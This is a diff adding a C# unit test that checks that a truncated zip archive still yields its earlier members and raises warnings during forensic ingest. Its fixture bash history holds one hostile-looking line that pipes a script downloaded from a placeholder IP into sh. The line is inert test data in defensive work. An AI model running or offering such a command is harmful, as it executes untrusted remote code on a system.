@@ -115,6 +115,31 @@ public sealed class HostileArchiveTests
     }
 
     /// <summary>
+    /// A zip cut short loses its central directory (written last) first: the members before the cut are read
+    /// from their local headers — with sizes in the header, or (written to a pipe) in a data descriptor after the data.
+    /// </summary>
+    [Theory]
+    [InlineData(false)]
+    [InlineData(true)]
+    public void ATruncatedZipKeepsTheMembersBeforeTheCutThroughTheirLocalHeaders(bool streamed)
+    {
+        var random = new Random(7);
+        var noise = new byte[400_000];
+        random.NextBytes(noise);
+        var history = Encoding.UTF8.GetBytes("#1709349400\ncurl -s http://198.51.100.7/x.sh | sh\n");
+        var full = Zip(streamed, ("var/log/auth.log", Encoding.UTF8.GetBytes(Line)), ("root/.bash_history", history), ("noise.bin", noise), ("var/log/late.log", Encoding.UTF8.GetBytes(Line + Line)));
+        var cut = full[..(full.Length / 2)];
+        var (_, casePath, _) = IngestArchive("Collection-cut.zip", cut, new IngestOptions { Year = 2024 });
+        using var read = CaseStores.OpenForRead(casePath);
+        Assert.Contains(read.Files(), f => f.Path.EndsWith("!/var/log/auth.log", StringComparison.Ordinal));
+        Assert.Contains(read.Files(), f => f.Path.EndsWith("!/root/.bash_history", StringComparison.Ordinal));
+        Assert.DoesNotContain(read.Files(), f => f.Path.EndsWith("late.log", StringComparison.Ordinal));
+        Assert.Equal(2, read.Events().Count());
+        Assert.Contains(read.Warnings(), w => w.Message.Contains("central directory", StringComparison.Ordinal) && w.Message.Contains("local headers", StringComparison.Ordinal));
+        Assert.Contains(read.Warnings(), w => w.Message.Contains("damaged at compressed offset", StringComparison.Ordinal) && w.Message.Contains("noise.bin", StringComparison.Ordinal));
+    }
+
+    /// <summary>
     /// Found by the archive fuzz target: a header number in GNU base-256 form (first byte 0x80) too large for
     /// 64 bits makes TarReader throw OverflowException. It is damage like any other bad header: warned with
     /// the offset, the members before it kept — not an exception out of the ingest.
